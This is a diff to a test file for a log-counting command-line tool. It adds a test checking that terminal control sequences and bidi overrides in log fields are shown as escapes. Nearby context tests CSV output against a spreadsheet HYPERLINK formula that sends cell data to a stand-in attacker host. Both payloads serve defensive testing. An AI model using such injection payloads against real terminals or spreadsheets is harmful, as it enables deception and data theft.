@@ -43,6 +43,13 @@ describe('ct-count', () => {
     expect(rows.some((row) => row.includes('田中太郎'))).toBe(true);
   });
 
+  test('the table cannot drive a terminal: control characters (C1 too) and bidi overrides are shown as escapes, as ct-show shows them', async () => {
+    const input = JSON.stringify({ eventTime: '2024-07-22T00:00:00Z', eventName: 'Evil\u001b]0;pwned\u0007\u009b31m\u202eName' });
+    const r = await sh('ct-count eventName', { input });
+    expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
+    expect(lines(r.stdout)[1]).toMatch(/Evil\\x1b\]0;pwned\\x07\\x9b31m\\u\{202e\}Name$/);
+  });
+
   test('--csv escapes what a spreadsheet would run as a formula, as ct-csv does', async () => {
     const r = await sh(`ct-count userAgent --csv '${SAMPLE}'`);
     expect(r.stdout).toContain(`"'=HYPERLINK(""http://attacker.example/x?d=""&A1,""Click for details"")"`);
